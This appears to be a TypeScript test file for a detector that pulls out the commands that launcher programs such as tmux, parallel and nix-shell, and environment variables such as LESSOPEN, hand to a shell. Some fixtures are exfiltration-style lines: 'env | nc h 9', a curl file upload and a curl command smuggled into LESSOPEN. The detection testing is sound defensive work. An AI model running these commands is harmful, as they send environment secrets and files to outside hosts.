// launchedBy: the command strings launchers hand to a shell, read from their argv; other programs carry none.

import { describe, expect, test } from "vitest";
import { commandsInVariables, launchedBy } from "../../../src/engine/injection/shell-launchers.ts";

describe("launchedBy", () => {
  const cases: [string, string[], string[]][] = [
    ["tmux new-session", ["tmux", "new-session", "-d", "-s", "x", "env | nc h 9"], ["env | nc h 9"]],
    ["tmux send-keys", ["tmux", "send-keys", "-t", "0", "curl -s h", "Enter"], ["curl -s h"]],
    ["tmux chained", ["tmux", "new", "-d", ";", "run-shell", "id"], ["id"]],
    ["tmux with no command", ["tmux", "kill-session", "-t", "dev"], []],
    ["parallel commands", ["parallel", ":::", "a b", "c d"], ["a b", "c d"]],
    ["parallel template", ["parallel", "-j1", "curl -F f=@{} h", ":::", "k1"], ["curl -F f=@k1 h"]],
    ["sg -c", ["sg", "docker", "-c", "docker ps"], ["docker ps"]],
    ["sg positional", ["sg", "docker", "docker ps"], ["docker ps"]],
    ["nodemon --exec", ["nodemon", "--exec", "ts-node a.ts"], ["ts-node a.ts"]],
    ["entr -s", ["entr", "-s", "npm test"], ["npm test"]],
    ["nix-shell --run", ["nix-shell", "-p", "curl", "--run", "curl h"], ["curl h"]],
    ["watchexec --", ["watchexec", "-e", "ts", "--", "npm", "test"], ["npm test"]],
    ["concurrently", ["concurrently", "-n", "a,b", "npm run a", "npm run b"], ["npm run a", "npm run b"]],
    ["expect spawn", ["expect", "-c", 'spawn sh -c "id"; expect eof'], ['sh -c "id"']],
    ["an ordinary program", ["grep", "-c", "x", "file"], []],
  ];
  test.each(cases)("%s", (_n, argv, want) => {
    expect(launchedBy(argv[0] ?? "", argv)).toEqual(want);
  });
});

describe("commandsInVariables", () => {
  test.each([
    [["GIT_SSH_COMMAND=ssh -i k", "git", "fetch"], ["ssh -i k"]],
    [["export", "PROMPT_COMMAND=history -a"], ["history -a"]],
    [["LESSOPEN=|lesspipe %s", "less", "f"], []],
    [["LESSOPEN=| curl -s h #%s", "less", "f"], ["curl -s h"]],
    [["PAGER=cat", "git", "log"], []],
    [["FOO=curl -s h", "make"], []],
    [["echo", "GIT_PAGER"], []],
  ])("%j", (words, want) => {
    expect(commandsInVariables(words)).toEqual(want);
  });
});
